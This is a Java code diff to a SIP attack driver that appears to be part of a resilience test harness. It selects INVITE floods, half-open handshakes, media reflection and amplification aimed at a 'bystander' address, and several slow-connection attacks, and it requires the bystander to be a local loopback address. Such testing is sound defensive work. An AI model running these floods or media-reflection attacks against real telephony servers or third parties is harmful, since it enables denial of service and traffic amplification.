@@ -14,6 +14,14 @@ public final class Attack {
     private static final List<String> HEAVY =
             List.of("--method", "INFO", "--octets", "14400", "--values", "3500");
 
+    /** Not on SIP. */
+    private static final String HTTP = "silent";
+
+    private static final String HANDSHAKES = "handshakes";
+
+    private static final List<String> BESIDE_A_BYSTANDER =
+            List.of("reflection", "move", "called", "amplification", HTTP);
+
     private final Target target;
     private final PrintStream out;
 
@@ -25,30 +33,63 @@ public final class Attack {
     /** The name of an attack, and options with their values. */
     public static void main(String[] args) throws Exception {
         List<String> words = Arrays.asList(args);
+        try {
+            Attack attack = new Attack(meant(words), System.out);
+            attack.run(words.getFirst());
+        } catch (IllegalArgumentException wrong) {
+            System.err.println("scripts/attack: " + wrong.getMessage());
+            System.exit(2);
+        }
+    }
+
+    private static Target meant(List<String> words) {
         List<String> options = new ArrayList<>();
         switch (words.getFirst()) {
             case "heavy" -> options.addAll(HEAVY);
             case "called" -> options.addAll(List.of("--method", "200"));
+            case HANDSHAKES -> {
+                options.addAll(List.of("--calls", "300"));
+                int by = words.indexOf("--by");
+                if (by > 0 && by + 1 < words.size()) {
+                    options.addAll(List.of("--honest", words.get(by + 1)));
+                }
+            }
             case "amplification" -> options.addAll(List.of("--seconds", "70"));
             default -> {}
         }
         options.addAll(words.subList(1, words.size()));
-        Attack attack = new Attack(Target.of(options), System.out);
-        switch (words.getFirst()) {
-            case "reflection" -> attack.reflection();
-            case "move" -> attack.move();
-            case "unacknowledged" -> attack.calls(false);
-            case "cancelled" -> attack.calls(true);
-            case "flood" -> attack.flood();
-            case "repeated" -> attack.repeated();
-            case "heavy" -> new WithinCalls(attack.target, attack.out).run();
-            case "called" -> new CalledPeer(attack.target, attack.out).run();
-            case "trickle" -> new Trickle(attack.target, attack.out).run();
-            case "deaf" -> new DeafConnections(attack.target, attack.out).run();
-            case "silent" -> new SilentHttp(attack.target, attack.out).run();
-            case "poison" -> new Poison(attack.target, attack.out).run();
-            case "amplification" -> attack.amplification();
-            default -> throw new IllegalArgumentException(words.getFirst());
+        Target target = Target.of(options);
+        if (BESIDE_A_BYSTANDER.contains(words.getFirst()) && target.bystander().isEmpty()) {
+            throw new IllegalArgumentException(
+                    "an IPv6 address of this machine that is no trunk's is wanted: --bystander"
+                            + " fd00::9, after: ip -6 addr add fd00::9/128 dev lo");
+        }
+        if (!HTTP.equals(words.getFirst())) {
+            Welcome.over(target.asHonest());
+        }
+        if (!HANDSHAKES.equals(words.getFirst())) {
+            Welcome.over(target);
+        }
+        return target;
+    }
+
+    private void run(String name) throws Exception {
+        switch (name) {
+            case "reflection" -> reflection();
+            case "move" -> move();
+            case "unacknowledged" -> calls(false);
+            case "cancelled" -> calls(true);
+            case "flood" -> flood();
+            case "repeated" -> repeated();
+            case "heavy" -> new WithinCalls(target, out).run();
+            case "called" -> new CalledPeer(target, out).run();
+            case "trickle" -> new Trickle(target, out).run();
+            case "deaf" -> new DeafConnections(target, out).run();
+            case HANDSHAKES -> new BegunConnections(target, out).run();
+            case HTTP -> new SilentHttp(target, out).run();
+            case "poison" -> new Poison(target, out).run();
+            case "amplification" -> amplification();
+            default -> throw new IllegalArgumentException(name + ": no attack; see --help");
         }
     }
 
@@ -57,7 +98,7 @@ public final class Attack {
         try (Connection connection = Connection.open(target);
                 Bystander bystander = Bystander.at(target.bystander())) {
             RawCall call = new RawCall(connection, target);
-            call.invites(RawCall.sdp(target.bystander(), bystander.port()));
+            call.invites(target.media().at(target.bystander(), bystander.port()));
             int status = call.answer(PATIENCE_MILLIS);
             if (target.acknowledge() || status >= 300) {
                 call.acknowledges();
@@ -76,10 +117,10 @@ public final class Attack {
                 Bystander own = Bystander.at(target.from());
                 Bystander bystander = Bystander.at(target.bystander())) {
             RawCall call = new RawCall(connection, target);
-            call.invites(RawCall.sdp(target.from(), own.port()));
+            call.invites(target.sdp(own.port()));
             out.println("INVITE: " + call.answer(PATIENCE_MILLIS));
             call.acknowledges();
-            call.invitesAgain(RawCall.sdp(target.bystander(), bystander.port()));
+            call.invitesAgain(target.media().at(target.bystander(), bystander.port()));
             int status = call.answer(PATIENCE_MILLIS);
             call.acknowledges();
             Thread.sleep(target.seconds() * 1000L);
@@ -91,7 +132,7 @@ public final class Attack {
     /** INVITEs that nobody acknowledges, and an honest caller each second. */
     private void calls(boolean cancelled) throws IOException, InterruptedException {
         Honest honest = new Honest(target);
-        String sdp = RawCall.sdp(target.from(), 40_000) + target.filling().description();
+        String sdp = target.sdp(40_000) + target.filling().description();
         long octets = 0;
         try (Connection connection = Connection.open(target);
                 Metrics metrics = Metrics.of(target)) {
@@ -133,7 +174,7 @@ public final class Attack {
         String filling = "a=x:" + "x".repeat(Math.max(0, target.filling().octets() - 400)) + "\r\n";
         try (Connection connection = Connection.open(target)) {
             RawCall call = new RawCall(connection, target);
-            String sdp = RawCall.sdp(target.from(), 40_000) + filling;
+            String sdp = target.sdp(40_000) + filling;
             call.invites(sdp);
             boolean cancels = target.method().equals("CANCEL");
             beside(
